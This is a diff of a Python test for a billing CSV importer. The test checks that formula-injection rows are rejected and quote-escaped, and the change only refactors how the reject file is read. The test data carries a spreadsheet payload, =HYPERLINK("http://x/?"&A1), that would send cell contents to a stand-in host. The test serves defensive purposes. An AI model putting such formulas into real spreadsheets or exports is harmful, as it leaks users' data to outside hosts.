@@ -238,7 +238,6 @@ async def test_a_rejected_formula_stays_text(tmp_path: Path, book: SqlBilling) -
     path = tmp_path / "b.csv"
     path.write_text(f'{HEADER}\n=HYPERLINK("http://x/?"&A1),0091001,2026-08,2026-09-25,abc\n', "utf-8")
     report = await take(book, path)
-    with Path(str(report.reject_file)).open(encoding="utf-8", newline="") as file:
-        (row,) = csv.DictReader(file)
+    (row,) = csv.DictReader(Path(str(report.reject_file)).read_text("utf-8").splitlines())
     assert row["text"].startswith("'=HYPERLINK")
     assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())
